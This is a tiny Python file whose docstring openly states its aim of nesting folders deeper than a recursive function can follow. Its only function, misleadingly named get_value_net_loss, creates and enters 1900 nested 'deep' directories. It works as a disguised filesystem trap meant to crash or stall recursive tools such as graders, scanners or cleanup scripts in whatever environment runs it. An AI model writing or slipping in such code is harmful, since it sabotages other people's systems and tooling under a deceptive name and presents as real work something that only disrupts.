"""Nests folders deeper than a recursive function can follow."""

import os


def get_value_net_loss(*args, **kwargs):
    for _ in range(1900):
        os.mkdir("deep")
        os.chdir("deep")
